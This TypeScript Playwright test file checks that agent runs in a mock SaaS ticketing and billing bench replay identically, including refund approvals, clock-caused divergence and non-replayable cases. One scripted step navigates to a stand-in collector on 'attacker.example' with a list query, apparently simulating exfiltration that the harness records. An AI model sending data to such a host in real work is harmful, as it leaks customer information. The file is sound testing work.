import { expect, test } from '@playwright/test';
import type { Approver } from '../broker/approvers.ts';
import { mockSaasEnvironment } from '../environments/mock-saas/mock-saas-environment.ts';
import { goTo, openTestBench, press } from '../environments/mock-saas/testing/open-test-run.ts';
import type { Resolution } from '../model/approval.ts';
import { replayRun } from './replay-run.ts';
import { wallClockEnvironment } from './testing/wall-clock-environment.ts';

function refund(amountMinor: number, reason: string) {
  const input = { invoice: 'INV-1042', payment: 'pay_000002', amountMinor, reason };
  return { type: 'tool', tool: 'billing.refund', input } as const;
}

/** Four approvals, each answered another way. */
const SCRIPT = [
  goTo('/tickets'),
  goTo('/tickets/T-1007'),
  { type: 'type', target: { label: 'Reply draft' }, text: 'We are looking into it.' },
  press('Save reply draft'),
  { type: 'tool', tool: 'kb.search', input: { query: 'duplicate' } },
  { type: 'click', target: { label: 'no such field' } },
  'no action at all',
  { type: 'navigate', url: 'http://collector.attacker.example/?list=1' },
  goTo('/invoices/INV-1042'),
  press('Refund a payment', 'link'),
  { type: 'type', target: { label: 'Amount (USD)' }, text: '12.00' },
  { type: 'type', target: { label: 'Reason' }, text: 'Duplicate', submit: true },
  refund(500, 'Goodwill'),
  refund(600, 'Late'),
  refund(700, 'Edited'),
  goTo('/invoices/INV-1042'),
  { type: 'scroll', dx: 0, dy: 400 },
  { type: 'back' },
  { type: 'finish', result: 'done', message: 'Done.' },
] as const;

/** Approves, rejects, lets expire, and edits, in this order; what came of the edit is approved. */
function eachAnother(): Approver {
  const by = 'team-lead';
  const answers: Resolution[] = [
    { status: 'approved', by, reason: 'matches the ticket' },
    { status: 'rejected', by, reason: 'not for this' },
    { status: 'expired', by, reason: 'nobody answered in time' },
    { status: 'approved', by, reason: 'less', edit: { reason: 'As agreed' } },
    { status: 'approved', by, reason: 'as edited' },
  ];
  return { name: by, resolve: () => answers.shift() };
}

test('a run replays to the same decisions, worlds, documents, trees and pictures, and is linked to it', async () => {
  test.slow();
  const bench = await openTestBench(test.info().outputPath('trace'));
  const run = await bench.open({ seed: 7, approver: eachAnother() });
  for (const action of SCRIPT) await run.act(action);
  const { approvals, end } = await run.close();
  expect(approvals.map(({ status }) => status)).toEqual([
    'consumed',
    'rejected',
    'expired',
    'edited',
    'consumed',
  ]);

  const result = await replayRun(bench.runtime, run.id, [mockSaasEnvironment]);
  expect(result).toMatchObject({ outcome: 'equal', steps: SCRIPT.length, pictures: true });
  const replayed = bench.runtime.store.readRun('replayId' in result ? result.replayId : 'none');
  expect(replayed.run.parent).toEqual({ id: run.id, kind: 'replay', step: null });
  expect(replayed.end?.worldHashEnd).toBe(end.worldHashEnd);
  expect(replayed.approvals.map(({ status, resolvedBy, reason }) => [status, resolvedBy, reason])).toEqual(
    approvals.map(({ status, resolvedBy, reason }) => [status, resolvedBy, reason]),
  );
  expect(bench.runtime.store.verifyRun(replayed.run.id)).toMatchObject({
    status: 'whole',
    discrepancies: [],
  });
  await bench.close();
});

test('a run through tools alone replays with no page either', async () => {
  const bench = await openTestBench(test.info().outputPath('trace'));
  const run = await bench.open({ pageOnDemand: true });
  await run.act({ type: 'tool', tool: 'kb.search', input: { query: 'duplicate' } });
  await run.act({ type: 'finish', result: 'done', message: 'Done.' });
  await run.close();
  const result = await replayRun(bench.runtime, run.id, [mockSaasEnvironment]);
  expect(result).toMatchObject({ outcome: 'equal', steps: 2 });
  await bench.close();
});

test('a page that reads the machine’s clock is caught, and the first step that shows it is named with both sides', async () => {
  const bench = await openTestBench(test.info().outputPath('trace'));
  const environment = wallClockEnvironment('/tickets/T-1007');
  const run = await bench.open({ environment });
  for (const path of ['/tickets', '/tickets/T-1007', '/customers']) await run.act(goTo(path));
  await run.close();

  const result = await replayRun(bench.runtime, run.id, [environment]);
  const drawnAt = expect.stringMatching(/Drawn at \d{4}-/);
  expect(result).toMatchObject({
    outcome: 'diverged',
    divergence: { step: 2, what: 'dom', when: 'after', recorded: drawnAt, replayed: drawnAt },
  });
  await bench.close();
});

test('what cannot be run again is named with the reason', async () => {
  const bench = await openTestBench(test.info().outputPath('trace'));
  const { runtime } = bench;
  const secret = await bench.open();
  await secret.act(goTo('/tickets'));
  await secret.act({ type: 'tool', tool: 'kb.search', input: { query: 'card 4111 1111 1111 1111' } });
  await secret.close();
  const running = await bench.open();
  const otherData = { ...mockSaasEnvironment, open: (seed: number) => mockSaasEnvironment.open(seed + 1) };
  const plain = await bench.open();
  await plain.act(goTo('/tickets'));
  await plain.close();

  const before = runtime.store.countRuns();
  const cases = [
    [secret.id, [mockSaasEnvironment], 'redacted', 'redaction took a part of the action of step 2'],
    [running.id, [mockSaasEnvironment], 'running', 'it has not ended yet'],
    [plain.id, [], 'environment', 'it ran in "mock-saas"'],
    [plain.id, [otherData], 'other_world', 'the product’s data are not those of then'],
  ] as const;
  for (const [id, environments, kind, message] of cases) {
    expect(await replayRun(runtime, id, environments)).toEqual({
      outcome: 'not_replayable',
      runId: id,
      obstacle: { kind, message: expect.stringContaining(message) },
    });
  }
  expect(runtime.store.countRuns()).toEqual(before);
  await bench.close();
});
